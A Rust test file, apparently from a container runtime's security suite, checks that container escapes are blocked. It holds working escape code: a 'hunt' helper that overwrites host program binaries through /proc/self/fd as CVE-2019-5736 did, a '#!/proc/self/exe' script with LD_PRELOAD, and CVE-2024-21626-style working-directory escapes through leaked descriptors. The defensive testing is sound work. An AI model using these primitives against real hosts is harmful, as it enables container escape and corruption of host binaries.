//! The runtime's own program and descriptors, as seen by what it starts.
use std::fs::File;
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::process::CommandExt;
use std::process::Command;
use std::time::{Duration, Instant};

use berth_types::{Doing, Result};
use rustix::fs::{Mode, OFlags};

use super::program::{Side, armed, command};
use super::{Attack, Row, Verdict, Way};
use crate::suite::{Bed, failed, holds, same, spec};

pub const RUNTIME: Row = Row {
    name: "the runtime's program",
    refusals: &[],
    attacks: &[
        Attack { name: "overwrite it while commands run", way: Way::Scene(overwrite) },
        Attack { name: "run it inside", way: Way::Scene(run_inside) },
    ],
    helpers: &[Attack { name: "hunt for programs to overwrite", way: Way::Program(hunt) }],
};

pub const ROW: Row = Row {
    name: "inherited descriptors",
    refusals: &[],
    attacks: &[
        Attack { name: "at a command", way: Way::Scene(at_command) },
        Attack { name: "at a plain command's init", way: Way::Scene(at_small_init) },
        Attack { name: "at an image's init", way: Way::Scene(at_init) },
        Attack { name: "a working folder behind a descriptor", way: Way::Scene(working_folder) },
    ],
    helpers: &[],
};

/// Opens every process's program to write it, for two seconds.
fn hunt(_: Side) -> io::Result<()> {
    let until = Instant::now() + Duration::from_secs(2);
    let own = std::fs::read_link("/proc/self/exe")?;
    let mut last = io::Error::other("saw no other program");
    while Instant::now() < until {
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let program = entry.path().join("exe");
            let path = std::fs::read_link(&program).unwrap_or_default();
            if path == own || path.ends_with("busybox") {
                continue;
            }
            match overwrite_behind(&program) {
                Ok(()) => return Ok(()),
                Err(error) if error.kind() == io::ErrorKind::NotFound => {}
                Err(error) => last = error,
            }
        }
    }
    Err(last)
}

/// As CVE-2019-5736 did: hold the file while it is busy, write once it is not.
fn overwrite_behind(program: &std::path::Path) -> io::Result<()> {
    let held = File::options().read(true).custom_flags(libc::O_PATH).open(program)?;
    let mut outcome = Err(io::Error::other("never free"));
    for _ in 0..50 {
        outcome = File::options().write(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
        match &outcome {
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => std::thread::yield_now(),
            _ => break,
        }
    }
    outcome?.write_all(b"#!/bin/false\n")
}

fn overwrite(bed: &Bed) -> Result<Verdict> {
    let victim = bed.state.join("victim-program");
    std::fs::copy("/bin/busybox", &victim).doing("copy a program")?;
    let mut running = Command::new(&victim).arg0("busybox").args(["sleep", "100"]).spawn().doing("run it")?;
    let held = File::options().read(true).custom_flags(libc::O_PATH).open(format!("/proc/{}/exe", running.id()));
    let _ = running.kill();
    let _ = running.wait();
    let held = held.doing("hold the program")?;
    let control = File::options().write(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
    if let Err(error) = control {
        return Ok(Verdict::Inert(format!("outside: {error}")));
    }
    let container = armed(bed, "runtime", |_| {})?;
    bed.sh(&container, "printf '#!/proc/self/exe\\n' > /evil; chmod 755 /evil")?;
    std::thread::scope(|scope| {
        let hunter =
            scope.spawn(|| bed.exec(&container, |request| request.command = command("hunt for programs to overwrite")));
        while !hunter.is_finished() {
            bed.exec(&container, |request| {
                request.command = vec!["/evil".to_owned()];
                request.env.insert("LD_PRELOAD".to_owned(), "/evil".to_owned());
            })?;
        }
        let done = hunter.join().map_err(|_| failed("the hunter"))??;
        let said = String::from_utf8_lossy(&done.stdout).into_owned();
        holds(
            &format!("the hunter says {said:?}"),
            done.exit_code == 0 && !said.contains("succeeded") && !said.contains("saw no other"),
        )?;
        Ok(Verdict::Blocked)
    })
}

/// As the interpreter of a script that the runtime executes. Once it runs it can be looked at, and tells where on the host its file is.
fn run_inside(bed: &Bed) -> Result<Verdict> {
    let container = bed.sleeper("runtime")?;
    bed.sh(&container, "printf '#!/proc/self/exe\\n' > /evil; chmod 755 /evil")?;
    let done = bed.exec(&container, |request| request.command = vec!["/evil".to_owned()]);
    let said = done.map_or_else(|error| error.message, |done| String::from_utf8_lossy(&done.stderr).into_owned());
    holds(&format!("it says {said:?}"), said.contains("denied"))?;
    Ok(Verdict::Blocked)
}

/// A folder of the host, open in this process and not closed by exec: what a careless runtime would pass on.
fn leaked() -> Result<std::os::fd::OwnedFd> {
    let folder = rustix::fs::open("/etc", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).doing("open a folder")?;
    let seen = Command::new("/bin/busybox").args(["ls", "-l", "/proc/self/fd"]).output().doing("run the control")?;
    holds("a child outside has it", String::from_utf8_lossy(&seen.stdout).contains("-> /etc"))?;
    Ok(folder)
}

fn at_command(bed: &Bed) -> Result<Verdict> {
    let _folder = leaked()?;
    let container = bed.sleeper("fds")?;
    // The last is the listing's own.
    for _ in 0..5 {
        same(
            "descriptors",
            bed.exec(&container, |request| request.command = words("/bin/ls /proc/self/fd"))?.stdout,
            b"0\n1\n2\n3\n".to_vec(),
        )?;
    }
    Ok(Verdict::Blocked)
}

fn at_small_init(bed: &Bed) -> Result<Verdict> {
    let _folder = leaked()?;
    let mut wanted = spec("fds");
    wanted.command = words("/bin/sleep 1000");
    let container = bed.launch(&wanted)?;
    // Process 1 is the runtime's and shows nothing of itself, not even to the container's root.
    holds(
        "process 1 shows its descriptors",
        bed.sh(&container, "ls /proc/1/fd/")?.0 != 0 || bed.sh(&container, "ls /proc/1/fd/")?.1.is_empty(),
    )?;
    same("the command's", bed.sh(&container, "ls /proc/2/fd")?.1, "0\n1\n2".to_owned())?;
    Ok(Verdict::Blocked)
}

fn at_init(bed: &Bed) -> Result<Verdict> {
    let _folder = leaked()?;
    let mut wanted = spec("fds");
    wanted.command = Vec::new();
    let container = bed.launch(&wanted)?;
    same("init's", bed.sh(&container, "ls /proc/1/fd")?.1, "0\n1\n2".to_owned())?;
    Ok(Verdict::Blocked)
}

/// CVE-2024-21626: between joining and executing the runtime has descriptors of the host, and a folder is chosen by name.
fn working_folder(bed: &Bed) -> Result<Verdict> {
    let folder = leaked()?;
    let control = Command::new("/bin/busybox")
        .args(["ls", "passwd"])
        .current_dir(format!("/proc/self/fd/{}", folder.as_raw_fd()))
        .output();
    holds("outside it is a way in", control.doing("run the control")?.status.success())?;
    let container = bed.sleeper("cwd")?;
    for number in 0..30 {
        for path in
            [format!("/proc/self/fd/{number}"), format!("/proc/self/fd/{number}/.."), format!("/proc/1/fd/{number}")]
        {
            let done = bed.exec(&container, |request| {
                request.command = words("/bin/ls -A");
                request.cwd = path.clone();
            });
            if let Ok(done) = done {
                return Err(failed(format!(
                    "{path} is a folder with {}",
                    String::from_utf8_lossy(&done.stdout).replace('\n', " ")
                )));
            }
        }
    }
    // By a link, too.
    bed.sh(&container, "for n in 3 4 5 6 7 8 9 10 11 12; do ln -s /proc/self/fd/$n /fd$n; done")?;
    for number in 3..13 {
        let done = bed.exec(&container, |request| request.cwd = format!("/fd{number}"));
        holds(&format!("a link to descriptor {number}"), done.is_err())?;
    }
    Ok(Verdict::Blocked)
}

fn words(line: &str) -> Vec<String> {
    line.split(' ').map(str::to_owned).collect()
}
